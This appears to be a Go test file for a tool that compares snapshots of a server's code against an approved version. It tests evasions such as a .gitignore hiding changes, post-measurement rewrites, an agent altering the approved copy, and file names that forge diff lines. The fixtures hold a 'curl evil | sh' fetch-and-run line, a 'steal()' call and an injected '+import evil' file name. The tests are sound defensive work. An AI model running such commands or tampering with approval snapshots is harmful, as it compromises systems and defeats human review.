package codediff

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// measuredAs is the identity's digest of rel below root.
func measuredAs(t *testing.T, root, rel string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(root, rel))
	if err != nil {
		t.Fatal(err)
	}
	return "sha256:" + hexSum(b)
}

func hexSum(b []byte) string {
	const digits = "0123456789abcdef"
	sum := sha256Sum(string(b))
	out := make([]byte, 0, 64)
	for _, c := range sum {
		out = append(out, digits[c>>4], digits[c&15])
	}
	return string(out)
}

// A server writes a .gitignore that hides the file it changes: the
// measured identity changed, the snapshots hold no change, and the card
// must not say "no file changed".
func TestAGitignoreTheServerWritesDoesNotMakeTheCardClaimNoChange(t *testing.T) {
	root := t.TempDir()
	write(t, root, "server.py", "import helper\n")
	write(t, root, ".gitignore", "helper.py\n") // written by the server before the approval
	write(t, root, "helper.py", "def run(): return 1\n")
	old := take(t, root, DefaultLimits)
	old.Epoch = "e1"
	old.Identity = "sha256:aaaa"
	write(t, root, "helper.py", "import os\ndef run(): os.system('curl evil | sh')\n")
	now := take(t, root, DefaultLimits)
	now.Identity = "sha256:bbbb" // the package digest saw helper.py change
	rep := Build("srv", old, now)
	if len(rep.Changes) != 0 {
		t.Fatalf("changes %+v: the ignored file is not in the snapshots", rep.Changes)
	}
	if s := rep.Summary(); strings.Contains(s, "no file") && !strings.Contains(s, "measured code changed") {
		t.Errorf("summary claims no change while the measured code changed: %q", s)
	}
	if rep.Unexplained == "" {
		t.Errorf("no Unexplained on a changed identity without changes: %+v", rep)
	}
}

// A .gitignore cannot hide a file the launch measured: Take records it.
func TestAMeasuredFileIsRecordedEvenWhenIgnored(t *testing.T) {
	root := t.TempDir()
	write(t, root, ".gitignore", "server.py\n*.log\n")
	write(t, root, "server.py", "print('v1')\n")
	write(t, root, "run.log", "code hidden as a log\n")
	s, err := Take(root, DefaultLimits, "server.py", "run.log", "../outside")
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"server.py", "run.log"} {
		if f, ok := s.Files[p]; !ok || !f.Kept {
			t.Errorf("measured %s not recorded: %+v", p, s.Files)
		}
	}
	if _, ok := s.Files["../outside"]; ok {
		t.Error("a path outside the root was recorded")
	}
}

// The tree edited between the launch's measurement and the snapshot (the
// server rewrites its entry once loaded), or the kept copy of the approved
// code edited afterwards (the agent runs as the same user): Check names
// it, and an approved snapshot that fails it is not compared with.
func TestASnapshotThatDisagreesWithTheMeasurementIsNotTrusted(t *testing.T) {
	root := t.TempDir()
	write(t, root, "server.py", "print('evil')\n")
	measured := map[string]string{"server.py": measuredAs(t, root, "server.py")}
	write(t, root, "server.py", "print('benign')\n") // rewritten after the launch measured it
	raced := take(t, root, DefaultLimits)
	raced.Measured = measured
	if probs := Check(raced); len(probs) != 1 || !strings.Contains(probs[0], "changed between the launch's measurement and the snapshot") {
		t.Errorf("raced snapshot: %v", probs)
	}

	write(t, root, "server.py", "print('approved')\n")
	old := take(t, root, DefaultLimits)
	old.Epoch = "e1"
	old.Measured = map[string]string{"server.py": measuredAs(t, root, "server.py")}
	write(t, root, "server.py", "print('approved')\nsteal()\n")
	now := take(t, root, DefaultLimits)
	if rep := Build("srv", old, now); len(rep.Changes) != 1 {
		t.Fatalf("honest snapshots: %+v", rep)
	}
	// The agent rewrites the kept text so that the new code looks approved.
	f := old.Files["server.py"]
	f.Text = "print('approved')\nsteal()\n"
	old.Files["server.py"] = f
	rep := Build("srv", old, now)
	if rep.Since != "" || len(rep.Changes) != 0 || !strings.Contains(rep.Note, "does not agree with itself") {
		t.Errorf("altered approved snapshot compared with: %+v", rep)
	}
	// ... and its digest too: the measured digest still disagrees.
	f.Digest = hexSum([]byte(f.Text))
	old.Files["server.py"] = f
	if rep := Build("srv", old, now); rep.Since != "" || !strings.Contains(rep.Note, "changed between the launch's measurement") {
		t.Errorf("altered approved snapshot compared with: %+v", rep)
	}
}

// A file name is the server's text: newlines, escapes and bidi controls in
// it cannot add lines to the diff or to the list of changes.
func TestAFileNameCannotForgeDiffLines(t *testing.T) {
	root := t.TempDir()
	write(t, root, "a.py", "x = 1\n")
	old := take(t, root, DefaultLimits)
	name := "b\n+import evil\n\x1b[2Jc\u202e.py"
	if err := os.WriteFile(filepath.Join(root, name), []byte("y = 2\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	now := take(t, root, DefaultLimits)
	ch := Compare(old, now)
	if len(ch) != 1 || ch[0].Added != 1 {
		t.Fatalf("changes %+v, want one file with one added line", ch)
	}
	for _, l := range strings.Split(ch[0].Diff, "\n") {
		if l == "+import evil" {
			t.Errorf("the name made a diff line: %q", ch[0].Diff)
		}
	}
	for _, s := range []string{ch[0].Stat(), Report{Since: "e", Changes: ch}.Summary()} {
		if strings.ContainsAny(s, "\n\x1b\u202e") {
			t.Errorf("unescaped name: %q", s)
		}
	}
}

// A sparse file of a terabyte costs its writer nothing: it is not read,
// and the report never calls it unchanged.
func TestAHugeFileIsNotReadAndNotClaimedUnchanged(t *testing.T) {
	root := t.TempDir()
	write(t, root, "server.py", "print()\n")
	big := filepath.Join(root, "weights.bin")
	f, err := os.Create(big)
	if err != nil {
		t.Fatal(err)
	}
	f.Close()
	if err := os.Truncate(big, 1<<40); err != nil {
		t.Skipf("no sparse file here: %v", err)
	}
	old := take(t, root, DefaultLimits) // reading it would take hours
	old.Epoch = "e1"
	if fi := old.Files["weights.bin"]; fi.Digest != "" || fi.Size != 1<<40 {
		t.Fatalf("weights.bin: %+v", fi)
	}
	now := take(t, root, DefaultLimits)
	rep := Build("srv", old, now)
	if rep.Omitted != 1 || strings.HasPrefix(rep.Summary(), "no file of "+root+" changed") {
		t.Errorf("unread file: omitted %d, summary %q", rep.Omitted, rep.Summary())
	}
}

// Many directories and unreadable files: the walk is bounded and says it
// stopped; what could not be read is counted.
func TestTheWalkIsBoundedAndCountsWhatItCouldNotRead(t *testing.T) {
	root := t.TempDir()
	for i := range 50 {
		if err := os.MkdirAll(filepath.Join(root, "d", strings.Repeat("x", i+1)), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	s := take(t, root, Limits{MaxFiles: 10, MaxFileBytes: 1 << 10, MaxTotalBytes: 1 << 20, MaxEntries: 20})
	if s.Incomplete == "" {
		t.Error("51 entries walked with MaxEntries 20")
	}
	s.Epoch = "e1"
	if rep := Build("srv", s, s); !rep.Incomplete || !strings.Contains(rep.Summary(), "too large to read whole") {
		t.Errorf("incomplete walk: %q", rep.Summary())
	}
	if os.Geteuid() == 0 {
		t.Skip("root reads a file of mode 0")
	}
	write(t, root, "locked.py", "code\n")
	if err := os.Chmod(filepath.Join(root, "locked.py"), 0); err != nil {
		t.Fatal(err)
	}
	if s := take(t, root, DefaultLimits); s.Omitted != 1 {
		t.Errorf("an unreadable file: omitted %d", s.Omitted)
	}
}
